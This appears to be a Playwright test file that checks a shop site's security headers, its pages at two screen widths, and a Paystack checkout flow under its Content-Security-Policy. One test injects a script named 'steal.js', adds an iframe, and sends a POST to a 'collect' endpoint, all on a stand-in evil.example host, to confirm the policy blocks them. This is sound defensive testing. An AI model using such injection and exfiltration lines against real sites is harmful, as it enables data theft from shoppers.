import { test, expect } from './fixtures';
import { watchCspViolations } from './csp';
import { SITE_PATHS } from '@/lib/site/seo';
import { inlineScriptHashes } from '@/lib/server/http/page-policy.mjs';
import { CSP_REPORT_PATH } from '@/lib/server/http/security-headers.mjs';
import type { Page } from '@playwright/test';
import { buy, twoProducts } from './support/catalogue';
import { installFakePaystack, paystackFrame } from './support/fake-paystack';
import { fillCheckout, openCheckout, uniqueEmail } from './support/shop-helpers';

const ROUTES = SITE_PATHS;
const NOT_FOUND = '/no-such-page';

function directives(policy: string | undefined): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of (policy ?? '').split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) map.set(name.toLowerCase(), values);
  }
  return map;
}

function expectSecurityHeaders(headers: Record<string, string>, where: string) {
  const csp = directives(headers['content-security-policy']);
  expect(csp.get('default-src'), where).toEqual(["'self'"]);
  // This site's files, and inline scripts only by their hash (a stored page's own) or this response's nonce.
  const [self, ...inline] = csp.get('script-src') ?? [];
  expect(self, where).toBe("'self'");
  for (const source of inline) expect(source, where).toMatch(/^'(?:sha256-[\w+/=]+|nonce-[\w+/=]+|strict-dynamic)'$/);
  expect(csp.get('connect-src'), where).toEqual(["'self'", 'https://api.paystack.co']);
  expect(csp.get('frame-src'), where).toEqual(['https://checkout.paystack.com', 'https://www.youtube-nocookie.com']);
  expect(csp.get('object-src'), where).toEqual(["'none'"]);
  expect(csp.get('base-uri'), where).toEqual(["'self'"]);
  expect(csp.get('form-action'), where).toEqual(["'self'", 'mailto:', 'https://checkout.paystack.com']);
  expect(csp.get('frame-ancestors'), where).toEqual(["'none'"]);
  expect(csp.get('report-uri'), where).toEqual([CSP_REPORT_PATH]);

  const maxAge = Number(/max-age=(\d+)/.exec(headers['strict-transport-security'] ?? '')?.[1]);
  expect(maxAge, where).toBeGreaterThanOrEqual(365 * 24 * 60 * 60);
  expect(headers['x-content-type-options'], where).toBe('nosniff');
  expect(headers['referrer-policy'], where).toBe('strict-origin-when-cross-origin');
  const permissions = (headers['permissions-policy'] ?? '').split(',').map((entry) => entry.trim());
  expect(permissions, where).toContain('payment=("https://checkout.paystack.com")');
  expect(headers['x-powered-by'], where).toBeUndefined();
}

// No network on the test machine: anything off-site answers with an empty page, after the CSP has had its say.
async function stubOffsite(page: Page, baseURL: string | undefined) {
  const origin = new URL(baseURL ?? 'http://localhost').origin;
  await page.route(
    (url) => url.origin !== origin,
    (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>stub</title>' }),
  );
}

test.describe('security headers', () => {
  test('every route, the 404 page and the static assets carry them', async ({ request }) => {
    for (const path of ROUTES) {
      const response = await request.get(path);
      expect(response.status(), path).toBe(200);
      expectSecurityHeaders(response.headers(), path);
      // A stored page names exactly the inline scripts it holds, no more.
      const named = directives(response.headers()['content-security-policy']).get('script-src')!.slice(1);
      expect(named, path).toEqual(inlineScriptHashes(await response.text()).map((hash) => `'${hash}'`));
    }

    // A page rendered for each visitor: its scripts run by this response's nonce.
    const cart = await request.get('/cart');
    expectSecurityHeaders(cart.headers(), '/cart');
    const nonce = /'nonce-([^']+)'/.exec(cart.headers()['content-security-policy'])?.[1];
    expect(await cart.text()).toContain(`nonce="${nonce}"`);

    const missing = await request.get(NOT_FOUND);
    expect(missing.status()).toBe(404);
    expectSecurityHeaders(missing.headers(), NOT_FOUND);

    // The redirects carry them too (answered in proxy.ts, since Next sends configured redirects without them).
    for (const path of ['/', '/products', '/PRODUCTS']) {
      const redirect = await request.get(path, { maxRedirects: 0 });
      expect([307, 308], path).toContain(redirect.status());
      expectSecurityHeaders(redirect.headers(), path);
    }

    const html = await (await request.get('/home')).text();
    const asset = /\/_next\/static\/[^"']+\.(?:js|css)/.exec(html)?.[0];
    expect(asset, 'a static asset linked from /home').toBeTruthy();
    const assetResponse = await request.get(asset!);
    expect(assetResponse.status()).toBe(200);
    expectSecurityHeaders(assetResponse.headers(), asset!);

    // Uploaded photos are answered by a route handler reading the database: its refusals carry them too.
    for (const [path, status] of [
      ['/photos/0123456789abcdef-320.avif', 404],
      ['/photos/not-a-photo.gif', 400],
    ] as const) {
      const photo = await request.get(path);
      expect(photo.status(), path).toBe(status);
      expectSecurityHeaders(photo.headers(), path);
    }
  });
});

// Every page the site publishes (its sitemap, as the server under test answers it), the cart, the menu, the offline
// page and a page that is not there, at a phone's width and at a desktop's, in one tab as a visitor goes from page to
// page: each answers, shows its content and runs its code; then at that width a product is added, the checkout opens
// and Pay Now reaches Paystack's popup. No policy violation on the way (the page fixture's check). One test covers
// both widths, so that the Worker's run, on a phone, proves the desktop's width too.
test("every public page at 375 and 1280 px runs its code, and Pay Now reaches Paystack's popup, without a policy violation", async ({
  page,
  baseURL,
  request,
}, testInfo) => {
  test.setTimeout(240_000);
  const sitemap = await (await request.get('/sitemap.xml')).text();
  const published = [...sitemap.matchAll(/<loc>([^<]+)<\/loc>/g)].map(([, loc]) => new URL(loc).pathname);
  expect(published.length).toBeGreaterThanOrEqual(20);
  await stubOffsite(page, baseURL);
  await installFakePaystack(page);
  const widths = [
    { viewport: { width: 375, height: 740 }, product: twoProducts()[0] },
    { viewport: { width: 1280, height: 800 }, product: twoProducts()[1] },
  ];
  for (const { viewport, product } of widths) {
    await page.setViewportSize(viewport);
    for (const path of [...published, '/cart', '/menu', '/offline', NOT_FOUND]) {
      const response = await page.goto(path);
      expect(response?.status(), `${path} at ${viewport.width} px`).toBe(path === NOT_FOUND ? 404 : 200);
      await expect(page.locator('main#main'), `${path} at ${viewport.width} px`).toBeVisible();
    }
    await buy(page, product);
    await openCheckout(page);
    await fillCheckout(page, {
      name: 'Ama Mensah',
      phone: '0241234567',
      email: uniqueEmail(`every-page-${viewport.width}`, testInfo.project.name),
    });
    await page.getByRole('button', { name: 'Pay Now' }).click();
    await expect(paystackFrame(page).getByRole('button', { name: 'Pay' })).toBeEnabled();
  }
});

test('the policy blocks what the site does not use, the watcher reports it, and Paystack is allowed', async ({
  page,
  baseURL,
}) => {
  const csp = await watchCspViolations(page);
  await stubOffsite(page, baseURL);
  await page.goto('/home', { waitUntil: 'load' });
  expect(csp.violations).toEqual([]);

  // Allowed: Paystack's checkout frame and API, a youtube-nocookie embed.
  await page.evaluate(async () => {
    for (const src of ['https://checkout.paystack.com/popup', 'https://www.youtube-nocookie.com/embed/x']) {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    }
    await fetch('https://api.paystack.co/checkout/request_inline', { method: 'POST', body: '{}' }).catch(
      () => undefined,
    );
  });
  expect(csp.violations).toEqual([]);

  // Blocked: a foreign script, a foreign frame, a call home to another host, a plugin.
  await page.evaluate(async () => {
    const script = document.createElement('script');
    script.src = 'https://cdn.evil.example/steal.js';
    document.head.append(script);
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
    await fetch('https://evil.example/collect', { method: 'POST', body: 'cart' }).catch(() => undefined);
    const plugin = document.createElement('object');
    plugin.data = '/home';
    document.body.append(plugin);
  });
  await expect.poll(() => csp.violations.join('\n')).toMatch(/script-src/);
  await expect.poll(() => csp.violations.join('\n')).toMatch(/frame-src/);
  await expect.poll(() => csp.violations.join('\n')).toMatch(/connect-src/);
  await expect.poll(() => csp.violations.join('\n')).toMatch(/object-src/);
  expect(() => csp.assertNone()).toThrow();
  // Provoked on purpose and checked: nothing left for the shared fixture to fail on.
  csp.reset();
});

test("Paystack's inline library works under the policy: its loader frame, checkout frame and API calls", async ({
  page,
  baseURL,
}) => {
  const csp = await watchCspViolations(page);
  await stubOffsite(page, baseURL);
  const apiCalls: string[] = [];
  await page.route('https://api.paystack.co/**', (route) => {
    apiCalls.push(new URL(route.request().url()).pathname);
    return route.fulfill({
      status: 200,
      contentType: 'application/json',
      headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' },
      body: JSON.stringify({ status: true, data: { id: 1, access_code: 'e2e-access', channels: ['mobile_money'] } }),
    });
  });
  await page.route('https://checkout.paystack.com/**', (route) =>
    route.fulfill({
      status: 200,
      contentType: 'text/html',
      body: '<!doctype html><title>checkout</title><script>parent.postMessage({ event: "loaded:checkout" }, "*")</script>',
    }),
  );
  // The library as the shop ships it (2.25.x), from this site as the shop's own chunk of it is.
  const library = '/e2e-paystack-inline.js';
  await page.route(`**${library}`, (route) =>
    route.fulfill({ contentType: 'text/javascript', path: require.resolve('@paystack/inline-js/dist/inline.js') }),
  );
  await page.goto('/Products', { waitUntil: 'load' });
  await page.addScriptTag({ url: library });
  const outcome = await page.evaluate(async () => {
    const Pop = (window as unknown as { PaystackPop: new () => { checkout: (options: object) => Promise<unknown> } })
      .PaystackPop;
    try {
      await new Pop().checkout({
        key: 'pk_test_e2e_public_key',
        email: 'ama@example.com',
        amount: 2500,
        currency: 'GHS',
        channels: ['mobile_money'],
      });
      return 'started';
    } catch (error) {
      return `failed: ${(error as Error).message}`;
    }
  });
  expect(outcome).toBe('started');
  await expect.poll(() => apiCalls).toEqual(expect.arrayContaining(['/checkout/request_inline']));
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toEqual(
      expect.arrayContaining(['about:blank', expect.stringMatching(/^https:\/\/checkout\.paystack\.com\/popup/)]),
    );
  csp.assertNone();
});
